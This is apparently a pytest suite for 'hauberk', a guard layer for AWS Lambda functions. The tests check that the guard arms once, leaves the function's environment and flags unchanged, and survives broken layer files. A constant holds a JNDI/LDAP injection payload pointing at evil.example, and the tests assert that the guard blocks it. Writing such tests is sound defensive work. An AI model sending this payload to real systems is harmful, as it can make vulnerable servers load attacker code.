"""Ways to attach the guard: the function's surroundings stay as they are without it."""

import json
import os
import platform
import shutil
from concurrent.futures import ThreadPoolExecutor

import pytest
from protected import oldest_and_newest

pytestmark = oldest_and_newest
ATTACK = {"q": "${jndi:ldap://evil.example/a}"}
RAN = "def handler(event, context): return 'ran'"
ARMED = ("status", "armed")
WRAPPER = '#!/bin/sh\nexport WRAPPED="${WRAPPED-}1"\nexec "$@"\n'
PREVENT = {"HAUBERK_MODE": "prevent"}


@pytest.fixture
def made_layer(layer, tmp_path):
    """A copy of the layer that a test may change, with the given files added."""

    def make(files=()):
        copy = shutil.copytree(layer, tmp_path / "layer")
        for name, text in dict(files).items():
            (copy / name).parent.mkdir(parents=True, exist_ok=True)
            (copy / name).write_text(text)
            (copy / name).chmod(0o755)
        return copy

    return make


def surroundings(running):
    return json.dumps(running.invoke("all").value, indent=1, sort_keys=True)


def by_wrapper(start, layer, **fields):
    return start("surroundings", PREVENT, own_layer=layer, **fields)


def by_pth(start, layer, **fields):
    environment = {**PREVENT, **fields.pop("environment", {})}
    return start("surroundings", None, layers=(layer,), environment=environment, **fields)


def by_wrapper_alone(start, layer, **fields):
    (layer / "python" / "hauberk.pth").unlink()
    return by_wrapper(start, layer, **fields)


WAYS = [by_wrapper, by_pth, by_wrapper_alone]


@pytest.mark.parametrize("way", WAYS, ids=lambda way: way.__name__)
def test_each_way_arms_the_guard_once(start, made_layer, way):
    running = way(start, made_layer())
    seen = running.invoke("all")
    assert [(one["type"], one["state"]) for one in seen.statuses] == [ARMED]
    assert running.invoke(ATTACK).error == "Blocked"


@pytest.mark.parametrize("way", WAYS, ids=lambda way: way.__name__)
def test_what_a_function_sees_of_its_surroundings_is_as_without_the_guard(start, made_layer, way):
    layer = made_layer()
    guarded = surroundings(way(start, layer))
    bare = shutil.copytree(layer, layer.with_name("bare"))
    shutil.rmtree(bare / "hauberk")
    (bare / "python" / "hauberk.pth").unlink(missing_ok=True)
    assert guarded == surroundings(start("surroundings", None, layers=(bare,)))


def test_the_next_descriptor_has_the_number_it_has_without_the_guard(start, layer):
    plain, guarded = start("surroundings", None), by_wrapper(start, layer)
    assert guarded.invoke("descriptor").value == plain.invoke("descriptor").value


@pytest.mark.parametrize(
    "variables",
    [
        {"PYTHONPATH": "/opt/own"},
        {"PYTHONPATH": "/opt/own:/opt/python"},
        {"PYTHONWARNINGS": "error::UserWarning"},
    ],
    ids=["own-path", "own-path-with-layers", "own-warnings"],
)
def test_variables_of_python_stay_in_force(start, made_layer, variables):
    layer = made_layer()
    guarded = by_wrapper(start, layer, environment=variables)
    assert guarded.invoke("all").statuses[0]["state"] == "armed"
    bare = layer.with_name("bare")
    (bare / "python").mkdir(parents=True)
    plain = start("surroundings", None, layers=(bare,), environment=variables)
    assert surroundings(guarded) == surroundings(plain)


def test_a_wrapper_that_was_there_before_still_runs(start, made_layer):
    layer = made_layer({"first": WRAPPER})
    code = "import os\ndef handler(event, context): return os.environ['WRAPPED']"
    before = {"AWS_LAMBDA_EXEC_WRAPPER": "/opt/first"}
    running = start(code, PREVENT, own_layer=layer, environment=before)
    seen = running.invoke({})
    assert seen.value == "1"
    assert [one["state"] for one in seen.statuses] == ["armed"]
    assert running.invoke(ATTACK).error == "Blocked"


FLAGS = {
    "before-the-rest": 'program=$1; shift; exec "$program" -W error::UserWarning -X utf8 -O "$@"',
    # As in AWS's documentation: before the last argument.
    "before-the-last": 'exec "${@:1:$#-1}" -W error::UserWarning -X utf8 -O "${@: -1}"',
}


@pytest.mark.parametrize("place", FLAGS)
def test_flags_of_python_that_a_wrapper_before_adds_stay_in_force(start, made_layer, place):
    layer = made_layer({"first": f"#!/bin/bash\n{FLAGS[place]}\n"})
    code = "import sys\ndef handler(*_): return [sys.warnoptions, sys.flags.optimize, sys.argv]"
    before = {"AWS_LAMBDA_EXEC_WRAPPER": "/opt/first"}
    plain = start(code, None, layers=(layer,), environment=before).invoke({})
    assert plain.value[:2] == [["error::UserWarning"], 1]
    guarded = start(code, PREVENT, own_layer=layer, environment=before).invoke({})
    assert guarded.value == plain.value
    assert [one["state"] for one in guarded.statuses] == ["armed"]


NEXT = [
    # what HAUBERK_NEXT_WRAPPER names
    ("missing", {}),
    ("plain", {"plain": "#!/bin/sh\n"}),
]


@pytest.mark.parametrize(("name", "files"), NEXT, ids=[name for name, _ in NEXT])
def test_a_next_wrapper_that_cannot_run_is_told_and_the_function_runs(
    start, made_layer, name, files
):
    layer = made_layer(files)
    for file in files:
        (layer / file).chmod(0o644)
    before = {"AWS_LAMBDA_EXEC_WRAPPER": f"/opt/{name}"}
    running = start(RAN, PREVENT, own_layer=layer, environment=before)
    seen = running.invoke({})
    assert seen.value == "ran"
    assert [(one["level"], one["state"]) for one in seen.statuses] == [
        ("FATAL", "fault"),
        ("ERROR", "armed"),
    ]
    assert "cannot be run" in seen.statuses[0]["message"]
    assert running.invoke(ATTACK).error == "Blocked"


# --- Broken layers. ---

NATIVE = "hauberk/lib/hauberk/_native.abi3.so"
OTHER_MACHINE = 183 if platform.machine() == "x86_64" else 62  # ELF's numbers: AArch64, x86-64


def removed(file):
    file.unlink()


def emptied(file):
    file.write_bytes(b"")


def halved(file):
    data = file.read_bytes()
    file.write_bytes(data[: len(data) // 2])


def garbled(file):
    file.write_bytes(b"\x00\xff garbage " * 99)


def of_another_machine(file):
    data = bytearray(file.read_bytes())
    data[18:20] = OTHER_MACHINE.to_bytes(2, "little")
    file.write_bytes(data)


def breakages(layer, tag):
    """Each file that the Python uses, but the wrapper: Lambda itself starts that, so nothing can save it."""
    for file in sorted(path for path in layer.rglob("*") if path.is_file()):
        name = str(file.relative_to(layer))
        if file.suffix == ".pyc":
            ways = (halved, garbled) if tag in name and "/model/" not in name else ()
        elif name == NATIVE:
            ways = (removed, emptied, halved, garbled, of_another_machine)
        elif file.suffix == ".py":
            ways = (removed, halved)
        elif name == "python/hauberk.pth":
            ways = (removed, halved)  # Python's own `site` does not survive one that is no text
        else:
            ways = (removed, halved, garbled) if name != "hauberk/wrapper" else ()
        yield from ((name, way) for way in ways)


@pytest.mark.pythons(None)  # it starts some hundred environments
def test_whatever_is_broken_of_the_layer_the_function_runs_and_the_log_says_so(
    start, layer, tmp_path
):
    """Each file in turn: the function runs; unless the guard still blocks, a FATAL record says so."""
    ask = "import sys\ndef handler(*_): return sys.implementation.cache_tag"
    rows = list(breakages(layer, f".{start(ask, None).invoke({}).value}."))
    assert len(rows) > 40
    numbers = iter(range(len(rows)))

    def outcome(row):
        name, breakage = row
        broken = shutil.copytree(layer, tmp_path / str(next(numbers)), copy_function=os.link)
        (broken / name).unlink()
        shutil.copy2(layer / name, broken / name)
        breakage(broken / name)
        running = start(RAN, PREVENT, own_layer=broken)
        seen, attacked = running.invoke({}), running.invoke(ATTACK)
        running.close()
        says_so = "FATAL" in {one["level"] for one in seen.statuses}
        is_whole = attacked.answer.error is not None
        return name, breakage.__name__, seen.payload, is_whole or says_so, seen.answer.log

    with ThreadPoolExecutor(2) as pool:
        outcomes = list(pool.map(outcome, rows))
    assert [one for one in outcomes if one[2] != b'"ran"'] == []
    assert not [one for one in outcomes if not one[3]], "\n".join(
        map(str, [one for one in outcomes if not one[3]][:3])
    )


def test_a_file_left_out_of_the_check_s_list_is_loaded_all_the_same(start, made_layer):
    """Without the list of sizes (a layer made by hand) the guard is armed."""
    layer = made_layer()
    (layer / "hauberk" / "sizes").unlink(missing_ok=True)
    assert start(RAN, PREVENT, own_layer=layer).invoke(ATTACK).error == "Blocked"


def test_where_boot_py_is_broken_flags_and_arguments_stay_as_they_are(start, made_layer):
    layer = made_layer()
    garbled(layer / "hauberk" / "boot.py")
    shutil.rmtree(layer / "hauberk" / "__pycache__", ignore_errors=True)
    environment = {"AWS_LAMBDA_EXEC_WRAPPER": "/opt/hauberk/wrapper"}
    broken = start("surroundings", None, layers=(layer,), environment=environment)
    (layer.parent / "bare" / "python").mkdir(parents=True)
    plain = start("surroundings", None, layers=(layer.parent / "bare",))
    for one in ("sys.path", "sys.argv", "sys.warnoptions", "directory", "__main__.__file__"):
        assert broken.invoke("all").value["init"][one] == plain.invoke("all").value["init"][one]
